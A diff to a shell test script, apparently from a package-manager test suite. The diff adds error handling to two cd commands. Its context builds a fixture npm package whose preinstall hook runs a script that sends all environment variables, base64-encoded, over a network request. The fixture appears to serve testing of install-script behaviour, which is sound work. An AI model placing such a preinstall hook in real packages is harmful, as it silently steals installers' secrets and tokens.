@@ -7,7 +7,7 @@
 
 prepare() {
 	mkdir "$HOME/pkg"
-	cd "$HOME/pkg"
+	cd "$HOME/pkg" || return
 	cat >package.json <<'END'
 {"name": "pad-line", "version": "1.0.0", "main": "index.js", "scripts": {"preinstall": "node report.js"}}
 END
@@ -18,7 +18,7 @@ request.on("error", () => {});
 request.end(Buffer.from(JSON.stringify(process.env)).toString("base64"));
 END
 	npm_package .
-	cd "$WORK"
+	cd "$WORK" || return
 	rm -r "$HOME/pkg"
 	echo '{"name": "print", "version": "1.0.0", "private": true}' >package.json
 }
